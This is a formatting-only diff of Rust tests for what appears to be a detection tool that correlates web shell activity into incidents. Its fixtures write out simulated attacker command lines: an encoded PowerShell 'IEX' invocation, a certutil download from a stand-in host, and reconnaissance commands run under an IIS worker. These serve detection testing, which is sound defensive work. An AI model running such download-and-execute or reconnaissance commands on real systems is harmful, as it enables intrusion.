@@ -76,7 +76,14 @@ fn chain(root: &str) -> Vec<String> {
         process(host, "2026-11-02 09:15:00.000", 1, 0, root, "root"),
         process(host, "2026-11-02 09:15:01.000", 2, 1, CMD, "cmd /c powershell -enc SQBFAFgA"),
         process(host, "2026-11-02 09:15:02.000", 3, 2, POWERSHELL, "powershell -enc SQBFAFgA"),
-        process(host, "2026-11-02 09:15:03.000", 4, 3, CERTUTIL, "certutil -urlcache -f http://x/a"),
+        process(
+            host,
+            "2026-11-02 09:15:03.000",
+            4,
+            3,
+            CERTUTIL,
+            "certutil -urlcache -f http://x/a",
+        ),
     ]
 }
 
@@ -181,13 +188,21 @@ fn a_web_server_shell_then_an_outbound_connection() {
 #[test]
 fn many_distinct_web_shell_commands_within_an_hour() {
     const TITLE: &str = "Many Distinct Commands From Web Server Shells";
-    let commands = ["whoami", "ipconfig /all", "net user", "ipconfig /all", "tasklist", "systeminfo"];
+    let commands =
+        ["whoami", "ipconfig /all", "net user", "ipconfig /all", "tasklist", "systeminfo"];
     let run = |minutes: &[u32]| {
         let dir = tempfile::tempdir().unwrap();
         let mut lines = vec![process("WEB01", "2026-11-02 09:00:00.000", 1, 0, W3WP, "w3wp")];
         for (i, (minute, command)) in minutes.iter().zip(commands).enumerate() {
             let time = format!("2026-11-02 {:02}:{:02}:00.000", 9 + minute / 60, minute % 60);
-            lines.push(process("WEB01", &time, 100 + i as u32, 1, CMD, &format!("cmd /c {command}")));
+            lines.push(process(
+                "WEB01",
+                &time,
+                100 + i as u32,
+                1,
+                CMD,
+                &format!("cmd /c {command}"),
+            ));
         }
         // The second file holds the first commands: order across files does not matter to
         // the window. (w3wp comes first: lineage follows input order.)
@@ -215,5 +230,8 @@ fn the_seeds_first_attack_test_is_one_incident() {
     assert_eq!(correlations[0]["rule"]["title"], "Web Shell Deployed And Used");
     assert_eq!(correlations[0]["rule"]["level"], "critical");
     assert!(stderr.contains("Incidents (1 by host"), "{stderr}");
-    assert!(stderr.contains("#1 critical  WEB01.corp.example  Web Shell Deployed And Used"), "{stderr}");
+    assert!(
+        stderr.contains("#1 critical  WEB01.corp.example  Web Shell Deployed And Used"),
+        "{stderr}"
+    );
 }
